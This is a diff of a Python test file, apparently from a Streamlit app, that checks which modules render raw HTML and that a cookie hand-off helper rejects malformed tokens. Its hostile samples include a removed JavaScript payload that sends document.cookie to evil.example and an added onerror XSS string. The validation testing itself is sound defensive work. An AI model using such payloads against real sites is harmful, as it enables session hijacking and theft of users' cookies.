@@ -80,17 +80,15 @@ def test_no_page_or_glue_module_renders_raw_html():
     sources = [*ROOT.glob("pages/**/*.py"), *ROOT.glob("ui/**/*.py"), ROOT / "streamlit_app.py"]
     assert len(sources) > 10
     offenders = [str(p.relative_to(ROOT)) for p in sources if risky.search(p.read_text(encoding="utf-8"))]
-    assert offenders == ["ui/cookie.py"]  # the session cookie's setter, which writes server tokens only
+    assert offenders == ["ui/cookie.py"]  # the cookie hand-off image, whose address holds a server code only
 
 
-def test_the_cookie_setter_writes_nothing_but_a_server_token():
+def test_the_cookie_hand_off_shows_nothing_but_a_server_code():
     import pytest
 
-    from store.browser_sessions import new_browser_token
-    from ui.cookie import is_token, set_cookie
+    from ui.cookie import handoff_image, is_token
 
-    assert is_token(new_browser_token())
-    for hostile in ['x"; document.location="https://evil.example/?"+document.cookie; "', "<script>", "a b", ""]:
+    for hostile in ['x" onerror="alert(1)', "<script>", "a b", "", "A" * 44]:
         assert not is_token(hostile)
         with pytest.raises(ValueError):
-            set_cookie(hostile)
+            handoff_image(hostile)
